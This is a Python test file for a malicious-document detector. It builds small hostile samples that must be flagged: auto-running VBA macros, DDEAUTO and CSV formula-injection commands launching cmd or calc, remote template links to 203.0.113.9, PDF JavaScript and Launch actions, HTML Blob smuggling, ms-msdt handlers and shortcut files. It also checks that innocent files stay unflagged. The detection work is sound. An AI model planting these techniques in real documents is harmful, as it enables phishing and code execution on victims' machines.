"""Every sign with a content that must show it, and contents that must show none."""

from __future__ import annotations

import base64
import io
import struct
import zlib

import pikepdf
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from contentfilter.unpack.opener import Kind
from contentfilter.unpack.signs import MOST_SIGNS, NAMES, UNEXAMINED, Sign, look, name_traits, signs_of_container
from tests.compound_file import compound_file, compressed, package, vba_project

EQUATION = "0002CE02-0000-0000-C000-000000000046"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BLOB = base64.b64encode(b"MZ" + bytes(range(256)) * 8).decode()


def look_at(data: bytes, name: str = "", media_type: str = "application/octet-stream") -> list[Sign]:
    kind = Kind(media_type, data[:65536], (name,) if name else (), data[-65536:])
    return list(look(io.BytesIO(data), kind))


def names(data: bytes, name: str = "", media_type: str = "application/octet-stream") -> set[str]:
    return {sign.name for sign in look_at(data, name, media_type)}


# -- Office ---------------------------------------------------------------------------------------------------------


def biff(*records: tuple[int, bytes]) -> bytes:
    return b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in records) + bytes(5000)


def sheet(kind: int, hidden: int = 0) -> tuple[int, bytes]:
    return 0x85, struct.pack("<IBB", 0, hidden, kind) + b"\x06\0Sheet1"


def slides(content: bytes, *, compressed: bool = True) -> bytes:
    body = struct.pack("<I", len(content)) + zlib.compress(content) if compressed else content
    return bytes(300) + struct.pack("<HHI", 16 if compressed else 0, 0x1011, len(body)) + body + bytes(5000)


def relationship(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
    ).encode()


def field(*pieces: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return (
        f'<w:document {W}><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>42</w:t></w:r></w:p></w:body></w:document>'
    ).encode()


PLAIN_MACRO = compound_file(vba_project("Function Twice(x)\r\nTwice = 2 * x\r\nEnd Function\r\n"))
AUTORUN = compound_file(vba_project('Sub AutoOpen()\r\nShell "calc.exe"\r\nEnd Sub\r\n'))
WORD = b"\xec\xa5\xc1\0" + bytes(5000)
URL_MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
LINKED = b"\x01\0\0\x02\x01\0\0\0" + URL_MONIKER + "http://203.0.113.9/a.hta".encode("utf-16-le")

OFFICE = {
    "vbaProject.bin": (PLAIN_MACRO, {"macro"}),
    "vbaProject.bin-autorun": (AUTORUN, {"macro", "macro-autorun", "macro-suspicious"}),
    "doc-macro": (compound_file({"Macros": vba_project(""), "WordDocument": WORD}), {"macro"}),
    "xls-macro": (
        compound_file({
            "_VBA_PROJECT_CUR": vba_project("Private Sub Workbook_Open()\r\nEnd Sub\r\n"),
            "Workbook": biff(sheet(0)),
        }),
        {"macro", "macro-autorun"},
    ),
    "project-without-source": (compound_file({"VBA": {"_VBA_PROJECT": b"\xcc\x61", "dir": b"\x01"}}), {"macro"}),
    "activemime": (
        b"ActiveMime" + bytes(40) + zlib.compress(AUTORUN),
        {"macro", "macro-autorun", "macro-suspicious"},
    ),
    "ppt-macro": (
        compound_file({"PowerPoint Document": slides(AUTORUN), "Pictures": bytes(9)}),
        {"macro", "macro-autorun", "macro-suspicious"},
    ),
    "ppt-package": (
        compound_file({
            "PowerPoint Document": slides(compound_file({"\x01Ole10Native": package("a", b"MZ")}), compressed=False)
        }),
        {"ole-package", "ole-executable"},
    ),
    "xlm": (compound_file({"Workbook": biff(sheet(0), sheet(1))}), {"xlm-macro"}),
    "xlm-very-hidden-auto-open": (
        compound_file({
            "Workbook": biff(sheet(1, 2), (0x18, b"\x20\0\0\x01\0\0\0\0\0\0\0\0\0\0\0\x01")),
        }),
        {"xlm-macro", "macro-autorun"},
    ),
    "xls-dde": (
        compound_file({"Workbook": biff((0x1AE, b"\x01\0\x10\0\0cmd\x03/c calc"))}),
        {"dde"},
    ),
    "doc-dde": (compound_file({"WordDocument": WORD + b"\x13 DDEAUTO c:\\cmd.exe \x14"}), {"dde"}),
    "doc-dde-wide": (
        compound_file({"WordDocument": WORD + "\x13 DDEAUTO cmd \x14".encode("utf-16-le")}),
        {"dde"},
    ),
    "doc-linked-object": (compound_file({"ObjectPool": {"_1": {"\x01Ole": LINKED}}}), {"external-template"}),
    "package": (compound_file({"\x01Ole10Native": package("notes.txt", b"hello")}), {"ole-package"}),
    "package-executable-name": (
        compound_file({"\x01Ole10Native": package("notes.js", b"hello")}),
        {"ole-package", "ole-executable"},
    ),
    "package-executable-content": (
        compound_file({"\x01Ole10Native": package("notes.txt", b"MZ\x90\0")}),
        {"ole-package", "ole-executable"},
    ),
    "equation-class": (compound_file({"Data": b"x"}, {"": EQUATION}), {"equation-editor"}),
    "equation-stream": (compound_file({"_1": {"Equation Native": b"x" * 64}}), {"equation-editor"}),
    "flash": (
        compound_file({"Contents": b"x"}, {"": "D27CDB6E-AE6D-11CF-96B8-444553540000"}),
        {"ole-exploited-class"},
    ),
    "encrypted": (compound_file({"EncryptedPackage": bytes(64), "EncryptionInfo": bytes(64)}), {"office-encrypted"}),
    "damaged": (AUTORUN[:2000], {"unexamined"}),
    "template-http": (relationship("attachedTemplate", "https://203.0.113.9/a.dotm"), {"external-template"}),
    "template-share": (relationship("attachedTemplate", r"\\203.0.113.9\a\b.dotm"), {"external-template"}),
    "template-file-share": (relationship("attachedTemplate", "file://203.0.113.9/a.dotm"), {"external-template"}),
    "template-utf16": (
        relationship("attachedTemplate", "http://203.0.113.9/a").decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        {"external-template"},
    ),
    "template-entity": (
        relationship("attachedTemplate", "&#104;ttp://203.0.113.9/a.dotm"),
        {"external-template"},
    ),
    "remote-object": (relationship("oleObject", "mhtml:http://203.0.113.9/a.html!x-usc:b"), {"external-template"}),
    "remote-frame": (relationship("frame", "http://203.0.113.9/f"), {"external-template"}),
    "macro-sheet-by-relationship": (relationship("xlMacrosheet", "worksheets/a.xml", "Internal"), {"xlm-macro"}),
    "docx-dde": (field("DDEAUTO c:\\\\windows\\\\cmd.exe"), {"dde"}),
    "docx-dde-in-pieces": (field(" D", "DE", "AUTO ", "cmd"), {"dde"}),
    "docx-dde-quoted": (field("QUOTE 68 68 69 32 99 109 100"), {"dde"}),
    "docx-dde-simple": (f'<w:p {W}><w:fldSimple w:instr=\'DDE "cmd"\'/></w:p>'.encode(), {"dde"}),
    "docx-remote-picture": (field('INCLUDEPICTURE "http://203.0.113.9/a.png"'), {"external-template"}),
    "xlsx-dde": (b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', {"dde"}),
    "flat-opc": (
        b'<pkg:package xmlns:pkg="p"><pkg:part pkg:name="/word/vbaProject.bin"/></pkg:package>',
        {"macro"},
    ),
    "word-2003-xml": (b'<w:x xmlns:w="w"><w:binData w:name="editdata.mso">QWN0</w:binData></w:x>', {"macro"}),
    "odf-basic": (b'<script:module xmlns:script="s" script:name="M">Sub x</script:module>', {"macro"}),
    "odf-event": (
        b'<o xmlns:s="s" xmlns:x="x"><s:event-listener s:event-name="dom:load" x:href="vnd.sun.star.script:a"/></o>',
        {"macro-autorun"},
    ),
}  # fmt: skip

# -- RTF ------------------------------------------------------------------------------------------------------------


def ole1(class_name: bytes, data: bytes) -> bytes:
    name = class_name + b"\0"
    return struct.pack("<III", 0x501, 2, len(name)) + name + bytes(8) + struct.pack("<I", len(data)) + data


def rtf_object(class_name: bytes, data: bytes, between: bytes = b"") -> bytes:
    digits = ole1(class_name, data).hex().encode()
    return b"{\\rtf1{\\object\\objemb{\\*\\objdata " + digits[:20] + between + digits[20:] + b"}}}"


RTF = {
    "package": (rtf_object(b"Package", package("a.txt", b"hello")[4:]), {"ole-package"}),
    "package-executable": (rtf_object(b"Package", package("a.exe", b"MZ")[4:]), {"ole-package", "ole-executable"}),
    "equation": (rtf_object(b"Equation.3", b"x" * 40), {"equation-editor"}),
    "equation-with-blanks": (rtf_object(b"Equation.3", b"x" * 40, b" \r\n\t "), {"equation-editor"}),
    "equation-compound": (
        rtf_object(b"OLE2Link", compound_file({"\x01Ole": LINKED}, {"": EQUATION})),
        {"equation-editor", "external-template"},
    ),
    "short-mark": (b"{\\rt" + rtf_object(b"Equation.3", b"x" * 40)[6:], {"equation-editor"}),
    "template": (b"{\\rtf1{\\*\\template http://203.0.113.9/a.dotm}}", {"external-template"}),
    "template-escaped": (b"{\\rtf1{\\*\\template \\u104?ttp://203.0.113.9/a}}", {"external-template"}),
    "dde": (b"{\\rtf1{\\field{\\*\\fldinst {\\b DDEAUTO c:\\\\\\\\cmd.exe}}}}", {"dde"}),
    "picture": (b'{\\rtf1{\\field{\\*\\fldinst INCLUDEPICTURE "http://203.0.113.9/a.png"}}}', {"external-template"}),
}

# -- PDF ------------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes, catalog: bytes = b"") -> bytes:
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, content) for number, content in enumerate(objects, 2))
    return (
        b"%PDF-1.7\n1 0 obj\n<</Type/Catalog " + catalog + b">>\nendobj\n" + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"
    )


def stream(about: bytes, data: bytes) -> bytes:
    return b"<<" + about + b"/Length %d>>\nstream\n" % len(data) + data + b"\nendstream"


def object_stream(content: bytes, name: bytes = b"/ObjStm", filters: bytes = b"/Filter/FlateDecode") -> bytes:
    return stream(b"/Type" + name + b"/N 1/First 5" + filters, zlib.compress(b"50 0 " + content))


JS = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
TWICE = b"/Filter[/ASCIIHexDecode/FlateDecode]"
PDF = {
    "javascript": (pdf(JS), {"pdf-javascript"}),
    "javascript-escaped": (pdf(b"<</S/J#61va#53cript/#4a#53(x)>>"), {"pdf-javascript"}),
    "javascript-packed": (pdf(object_stream(JS)), {"pdf-javascript"}),
    "javascript-packed-escaped": (pdf(object_stream(b"<</S/#4aavaScript>>", b"/Obj#53tm")), {"pdf-javascript"}),
    "javascript-packed-twice": (
        pdf(stream(b"/Type/ObjStm/N 1/First 5" + TWICE, zlib.compress(b"50 0 " + JS).hex().encode() + b">")),
        {"pdf-javascript"},
    ),
    "javascript-packed-damaged": (
        pdf(stream(b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode", zlib.compress(b"50 0 " + JS)[:-4])),
        {"pdf-javascript"},
    ),
    "javascript-packed-under-a-false-filter": (
        pdf(object_stream(JS, filters=b"/X(obj)/Filter/ASCII85Decode")),
        {"pdf-javascript"},
    ),
    "javascript-packed-under-a-long-dictionary": (
        pdf(object_stream(JS, filters=b"/X(" + b" " * 10_000 + b")/Filter/FlateDecode")),
        {"pdf-javascript"},
    ),
    "javascript-packed-in-base-85": (
        pdf(stream(b"/Type/ObjStm/N 1/First 5", base64.a85encode(zlib.compress(b"50 0 " + JS)) + b"~>")),
        {"pdf-javascript"},
    ),
    "packed-in-another-filter": (
        pdf(stream(b"/Type/ObjStm/N 1/First 5/Filter/LZWDecode", b"\x80\x0b\x60")),
        {"unexamined"},
    ),
    "javascript-behind-false-stream": (
        b"%PDF-1.4\n% >>stream\n7 0 obj" + JS + b"endobj\n% endstream\n",
        {"pdf-javascript"},
    ),
    "javascript-after-junk": (b"GIF89a" + pdf(JS), {"pdf-javascript"}),
    "launch": (pdf(b"<</S/Launch/F(cmd.exe)>>"), {"pdf-launch"}),
    "open-action": (pdf(catalog=b"/OpenAction<</S/URI/URI(http://203.0.113.9)>>"), {"pdf-open-action"}),
    "open-action-elsewhere": (pdf(JS, catalog=b"/OpenAction 2 0 R"), {"pdf-javascript", "pdf-open-action"}),
    "open-action-packed": (
        pdf(object_stream(b"<</S/SubmitForm>>"), catalog=b"/OpenAction 50 0 R"),
        {"pdf-open-action"},
    ),
    "embedded-file": (pdf(stream(b"/Type/EmbeddedFile", b"MZ")), {"pdf-embedded-file"}),
    "encrypted": (pdf() + b"trailer<</Encrypt 9 0 R>>", {"pdf-encrypted"}),
    "rich-media": (pdf(b"<</Subtype/RichMedia>>"), {"pdf-rich-media"}),
    "form-in-xml": (pdf(b"<</XFA 3 0 R>>"), {"pdf-xfa"}),
}

# -- HTML -----------------------------------------------------------------------------------------------------------

MAKE_BLOB = (
    "var b=new Blob([atob(d)]);var a=document.createElement('a');"
    "a.href=URL.createObjectURL(b);a.download='x.zip';a.click()"
)
HTML = {
    "blob": (f"<html><script>var d='{BLOB}';{MAKE_BLOB}</script></html>", {"html-script", "html-smuggling"}),
    "blob-old": ("<html><script>navigator.msSaveOrOpenBlob(b,'x.iso')</script>", {"html-script", "html-smuggling"}),
    "blob-in-handler": (f'<body onload="{MAKE_BLOB}">', {"html-script", "html-smuggling"}),
    "data-download": (
        f'<html><a download="a.zip" href="data:application/zip;base64,{BLOB}">Invoice</a></html>',
        {"html-smuggling"},
    ),
    "data-frame": (f'<html><iframe src="data:text/html;base64,{BLOB}"></iframe></html>', {"html-smuggling"}),
    "data-refresh": (
        '<html><meta http-equiv="refresh" content="0;url=data:text/html,x"></html>',
        {"html-smuggling"},
    ),
    "from-char-code": (
        f"<html><script>eval(String.fromCharCode({'104,' * 200}104))</script></html>",
        {"html-script", "html-smuggling"},
    ),
    "unescape": (
        f"<html><script>document.write(unescape('{'%3c%61' * 60}'))</script></html>",
        {"html-script", "html-smuggling"},
    ),
    "script": ("<html><script>alert(1)</script></html>", {"html-script"}),
    "script-url": ("<html><a href='java\tscript:alert(1)'>x</a></html>", {"html-script"}),
    "script-url-in-entities": ("<html><a href='&#106;avascript&colon;alert(1)'>x</a></html>", {"html-script"}),
    "data-frame-in-entities": (f'<html><iframe src="&#100;ata:text/html;base64,{BLOB}"></iframe>', {"html-smuggling"}),
    "svg-script": ('<svg xmlns="s"><script>alert(1)</script></svg>', {"html-script-in-svg"}),
    "svg-handler": ('<svg xmlns="s" onload="alert(1)"/>', {"html-script-in-svg"}),
    "svg-smuggling": (
        f'<svg xmlns="s"><script><![CDATA[var d="{BLOB}";{MAKE_BLOB}]]></script></svg>',
        {"html-script-in-svg", "html-smuggling"},
    ),
    "application": ("<html><hta:application id=a></html>", {"html-application"}),
    "encoded-script": ("<html>#@~^AAAAAA==x</html>", {"encoded-script"}),
    "msdt": ("<html><a href='ms-msdt:/id PCWDiagnostic'>x</a></html>", {"html-protocol-handler"}),
    "search": ("<html><a href='search-ms:query=a&amp;crumb=location:x'>x</a></html>", {"html-protocol-handler"}),
    "shell-object": (
        "<html><script language=vbscript>CreateObject(\"WScript.Shell\").Run</script></html>",
        {"html-script", "script-object"},
    ),
}  # fmt: skip

# -- the rest -------------------------------------------------------------------------------------------------------

LINK = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60) + "cmd.exe /c calc".encode("utf-16-le")
FILE_DATA = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
ONENOTE = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1000)


def embedded(content: bytes) -> bytes:
    return FILE_DATA + struct.pack("<QIQ", len(content), 0, 0) + content


OTHER = {
    "link": (LINK, "a.lnk", {"shortcut"}),
    "url": (b"[InternetShortcut]\r\nURL=file://203.0.113.9/a.exe\r\n", "a.url", {"shortcut"}),
    "desktop": (b"[Desktop Entry]\nType=Application\nExec=sh -c 'id'\n", "a.desktop", {"shortcut"}),
    "scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.9\\a.ico\r\n", "a.scf", {"shortcut"}),
    "settings": (b"<?xml version='1.0'?><PCSettings><DeepLink>cmd</DeepLink></PCSettings>", "a.xml", {"shortcut"}),
    "library": (b"<?xml version='1.0'?><libraryDescription xmlns='x'/>", "a.library-ms", {"shortcut"}),
    "web-query": (b"WEB\r\n1\r\nhttp://203.0.113.9/a\r\n", "a.iqy", {"external-template"}),
    "csv": (b"name,sum\r\nx,\"=cmd|'/c calc'!A1\"\r\n", "a.csv", {"dde"}),
    "csv-plus": (b"name;sum\nx;+1+cmd|' /c calc'!A0\n", "a.csv", {"dde"}),
    "slk": (b"ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC(\"calc\")\nE\n", "a.slk", {"xlm-macro"}),
    "slk-dde": (b"ID;P\nC;X1;Y1;K0;Ecmd|'/c calc'!A1\nE\n", "a.slk", {"dde"}),
    "onenote-program": (ONENOTE + embedded(b"MZ\x90\0"), "a.one", {"onenote-embedded"}),
    "onenote-script": (ONENOTE + embedded(b"<hta:application>"), "a.one", {"onenote-embedded", "html-application"}),
    "script-component": (b"<?xml version='1.0'?><scriptlet><registration/></scriptlet>", "a.sct", {"script-in-xml"}),
    "script-file": (b"<job id='a'><script language='JScript'>x</script></job>", "a.wsf", {"script-in-xml"}),
}  # fmt: skip


@pytest.mark.parametrize(("data", "expected"), OFFICE.values(), ids=OFFICE)
def test_office(data: bytes, expected: set[str]) -> None:
    found = names(data)
    assert expected <= found
    assert found <= expected | {"macro-without-source"}


@pytest.mark.parametrize(("data", "expected"), RTF.values(), ids=RTF)
def test_rtf(data: bytes, expected: set[str]) -> None:
    assert names(data) == expected


@pytest.mark.parametrize(("data", "expected"), PDF.values(), ids=PDF)
def test_pdf(data: bytes, expected: set[str]) -> None:
    assert names(data) == expected


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-le"])
@pytest.mark.parametrize(("text", "expected"), HTML.values(), ids=HTML)
def test_html(text: str, expected: set[str], encoding: str) -> None:
    assert names(text.encode(encoding)) == expected


@pytest.mark.parametrize(("data", "name", "expected"), OTHER.values(), ids=OTHER)
def test_other(data: bytes, name: str, expected: set[str]) -> None:
    found = names(data, name)
    assert expected <= found
    assert found <= expected | {"html-script"}


SAMPLES = {
    **{key: data for group in (OFFICE, RTF, PDF) for key, (data, _) in group.items()},
    **{key: text.encode() for key, (text, _) in HTML.items()},
    **{key: data for key, (data, _, _) in OTHER.items()},
}
CALLED = (
    *("", "a", "a.bin", "a.exe", "a.hta", "a.html", "a.svg", "a.url", "a.scf", "a.lnk", "a.one", "a.pdf", "a.rtf"),
    *("a.doc", "a.xml", "a.wsf", "a.csv", "b.TSV. ", "a.slk", "a.iqy", "xl/macrosheets/sheet1.xml"),
)


@pytest.mark.parametrize("data", SAMPLES.values(), ids=SAMPLES)
def test_by_which_names_signs_go_is_known(data: bytes) -> None:
    """The engine looks at a copy only if its names have other traits than those before."""
    found: dict[frozenset[str], set[str]] = {}
    for name in CALLED:
        seen = names(data, name)
        assert found.setdefault(name_traits([name]), seen) == seen, name


def test_names_have_traits() -> None:
    assert name_traits(["a.bin", "a.exe"]) == name_traits([]) == frozenset()
    assert name_traits(["a.bin", "a.csv"]) == {"table"}
    assert name_traits(["a.csv", "xl/MacroSheets/a.xml"]) == {"table", "xml"}


NEWSLETTER = (
    "<!DOCTYPE html><html><head><style>.a{color:red}</style>"
    '<script type="application/ld+json">{"@context":"http://schema.org","url":"https://example.org/#"}</script></head><body>'
    f'<img src="data:image/png;base64,{BLOB}"><table><tr><td style="font-size:14px">'
    '<a href="https://example.org/download?x=1">Download your invoice</a> on=off function location eval'
    f"</td></tr></table>{'<p>Hello &amp; welcome</p>' * 200}</body></html>"
)
INVOICE = pdf(
    b"<</Annots[<</Subtype/Link/A<</S/URI/URI(https://example.org/JS)>>>>]>>",
    stream(b"/Filter/FlateDecode", zlib.compress(b"BT (Launch /JavaScript) Tj ET")),
    object_stream(b"<</Type/Font/BaseFont/Helvetica>>"),
    b"[3 0 R/XYZ null null 0]",
    catalog=b"/OpenAction[3 0 R/XYZ null null 0]/Names<</Dests 4 0 R>>",
)
INNOCENT = {
    "newsletter": (NEWSLETTER.encode(), "", "text/html"),
    "text": (b"Dear all, <see> the = DDE report, cmd | more\r\n", "", "text/plain"),
    "invoice": (INVOICE, "invoice.pdf", "application/pdf"),
    "pdf-opens-at-page": (pdf(b"<</S/GoTo/D[3 0 R]>>", catalog=b"/OpenAction 2 0 R"), "", "application/pdf"),
    "pdf-opens-at-array": (pdf(b"[3 0 R/Fit]", catalog=b"/OpenAction 2 0 R"), "", "application/pdf"),
    "svg-logo": (b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/><style>.a{}</style></svg>', "l.svg", ""),
    "svg-with-image": (f'<svg><image href="data:image/png;base64,{BLOB}"/></svg>'.encode(), "l.svg", "image/svg+xml"),
    "docx-text": (f"<w:document {W}><w:p><w:r><w:t>DDEAUTO cmd</w:t></w:r></w:p></w:document>".encode(), "", ""),
    "docx-page-field": (field(" PAGE ", "\\* MERGEFORMAT"), "word/footer1.xml", ""),
    "docx-contents-field": (field('TOC \\o "1-3" \\h'), "", ""),
    "docx-hyperlink": (relationship("hyperlink", "https://example.org/"), "word/_rels/document.xml.rels", ""),
    "docx-remote-image": (relationship("image", "https://example.org/logo.png"), "", ""),
    "docx-local-template": (relationship("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"), "", ""),
    "docx-embedded": (relationship("oleObject", "embeddings/oleObject1.bin", "Internal"), "", ""),
    "docx-settings": (relationship("settings", "settings.xml", "Internal"), "", ""),
    "xlsx-link": (relationship("externalLinkPath", "file:///C:\\data\\prices.xlsx"), "", ""),
    "xlsx-link-beside": (relationship("externalLinkPath", "prices%202026.xlsx"), "", ""),
    "xlsx-names": (b'<workbook><definedName name="_xlnm.Print_Area">A1</definedName></workbook>', "", ""),
    "doc": (compound_file({"WordDocument": WORD + b"\x13 PAGE \x14 DDEAUTO", "1Table": bytes(5000)}), "a.doc", ""),
    "doc-hyperlink": (compound_file({"WordDocument": WORD + b"\x13 HYPERLINK http://example.org/DDE \x14"}), "", ""),
    "ppt": (compound_file({"PowerPoint Document": slides(compound_file({"Contents": b"x"}))}), "a.ppt", ""),
    "xls": (compound_file({"Workbook": biff(sheet(0), sheet(2), (0x1AE, b"\x01\0\x01\x04"))}), "a.xls", ""),
    "xls-linked-book": (compound_file({"Workbook": biff((0x1AE, b"\x01\0\x09\0\0\x01prices.xls"))}), "a.xls", ""),
    "msg": (compound_file({"__properties_version1.0": bytes(32), "__substg1.0_1000001F": b"h\0i\0"}), "a.msg", ""),
    "rtf": (b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}{\\*\\template C:\\\\a.dot}{\\pict 89504e47}Hello}", "", ""),
    "rtf-hyperlink": (b'{\\rtf1{\\field{\\*\\fldinst HYPERLINK "http://example.org/"}}}', "a.rtf", ""),
    "csv": (b"name,sum\r\n=1+2,-3\r\n+49 30 1234,@home\r\n\"a|b\",'c'!d\r\n", "a.csv", "text/csv"),
    "slk": (b"ID;PWXL;N;E\nP;PGeneral\nB;Y1;X1\nC;Y1;X1;K\"a\"\nC;Y2;X1;ER1C1+1\nE\n", "a.slk", ""),
    "onenote-picture": (ONENOTE + embedded(b"\x89PNG\r\n"), "a.one", ""),
    "patch": (b"[Shell]\n[InternetShortcut] is a section\n- [ ] Exec=\n", "a.txt", "text/plain"),
    "zip": (b"PK\x03\x04" + bytes(100) + b"xl/macrosheets/", "a.zip", "application/zip"),
    "picture": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100, "a.png", "image/png"),
    "nothing": (b"", "", "application/x-empty"),
}  # fmt: skip


@pytest.mark.parametrize(("data", "name", "media_type"), INNOCENT.values(), ids=INNOCENT)
def test_innocent(data: bytes, name: str, media_type: str) -> None:
    assert look_at(data, name, media_type) == []


def test_image_with_program() -> None:
    iso = Kind("application/x-iso9660-image", b"")
    members = [("README.TXT", "text/plain"), ("Invoice.lnk", "application/octet-stream")]
    assert list(signs_of_container(iso, members)) == [Sign("image-with-executable", "Invoice.lnk")]
    assert list(signs_of_container(iso, [("SETUP", "application/x-dosexec")])) == [
        Sign("image-with-executable", "SETUP")
    ]
    assert list(signs_of_container(iso, members[:1])) == []
    assert list(signs_of_container(Kind("application/zip", b"PK"), members)) == []


def test_image_by_content() -> None:
    head = bytes(32769) + b"CD001"
    assert list(signs_of_container(Kind("application/octet-stream", head), [("a.exe", "")]))


def test_escapes_across_the_pieces_in_which_a_pdf_is_read() -> None:
    for shift in range(4):
        start = b"%PDF-1.7\n" + b"%" * (1024 * 1024 - 12 + shift)
        assert names(start + b"\n/#4a#53 (x)") == {"pdf-javascript"}


@pytest.mark.parametrize(("password", "expected"), [
    ("", {"pdf-encrypted", "pdf-javascript", "pdf-open-action"}),
    ("secret", {"pdf-encrypted"}),
])  # fmt: skip
def test_encrypted_pdf(password: str, expected: set[str]) -> None:
    file = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.OpenAction = document.make_indirect(action)
        document.save(
            file,
            encryption=pikepdf.Encryption(owner="owner", user=password),
            object_stream_mode=pikepdf.ObjectStreamMode.generate,
        )
    assert names(file.getvalue()) == expected


def test_pdf_with_a_predictor() -> None:
    rows = b"50 0 " + JS.ljust(-(-len(JS) // 8) * 8 + 3)
    up = b"".join(
        b"\x02"
        + bytes((new - old) % 256 for new, old in zip(rows[at : at + 8], rows[at - 8 : at] or bytes(8), strict=True))
        for at in range(0, len(rows), 8)
    )
    about = b"/Type/ObjStm/N 1/First 5/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>"
    assert names(pdf(stream(about, zlib.compress(up)))) <= {"pdf-javascript", UNEXAMINED}
    assert names(pdf(stream(about, zlib.compress(up))))


def test_end_of_a_large_pdf() -> None:
    assert names(b"%PDF-1.7\n" + bytes(50 * 1024 * 1024) + JS) == {"pdf-javascript"}


def test_element_across_the_pieces_in_which_xml_is_searched() -> None:
    filler = b"<a>" + b" " * (4 * 1024 * 1024 - 9)
    assert names(filler + b'<ddeLink ddeService="cmd"/></a>') == {"dde"}


def test_what_cannot_be_examined_is_not_taken_for_harmless() -> None:
    in_a_row = compound_file({f"s{number}": b"x" for number in range(3000)})
    assert names(in_a_row) == {UNEXAMINED}


def test_every_sign_is_documented() -> None:
    expected = [expected for _, expected in [*OFFICE.values(), *RTF.values(), *PDF.values(), *HTML.values()]]
    seen = set[str]().union(*expected, *(signs for _, _, signs in OTHER.values()))
    assert seen | {"image-with-executable", "macro-without-source"} == set(NAMES)


def test_macros_without_source() -> None:
    project = vba_project("")
    without = {"PROJECT": project["PROJECT"], "VBA": {"_VBA_PROJECT": b"\xcc\x61", "dir": compressed(bytes(9))}}
    assert names(compound_file(without)) == {"macro", "macro-without-source"}


def test_signs_are_few_and_short() -> None:
    cells = "\n".join(f"=cmd{number}|'/c {'x' * 250}'!A1" for number in range(1000))
    found = look_at(cells.encode(), "a.csv")
    assert len(found) == MOST_SIGNS
    assert all(len(sign.detail) <= 200 and sign.detail.isprintable() for sign in found)


SAMPLES = [data for data, _ in [*OFFICE.values(), *RTF.values(), *PDF.values()]]
SAMPLES += [text.encode() for text, _ in HTML.values()] + [data for data, _, _ in OTHER.values()]


@given(st.data())
@settings(max_examples=150, deadline=None, suppress_health_check=list(HealthCheck))
def test_never_raises(data: st.DataObject) -> None:
    sample = bytearray(data.draw(st.sampled_from(SAMPLES)))
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(sample)))
        piece = data.draw(st.binary(max_size=8))
        sample[at : at + data.draw(st.sampled_from([0, 1, len(piece), 64]))] = piece
    found = look_at(bytes(sample), data.draw(st.sampled_from(["", "a.csv", "a.slk"])))
    assert len(found) <= MOST_SIGNS
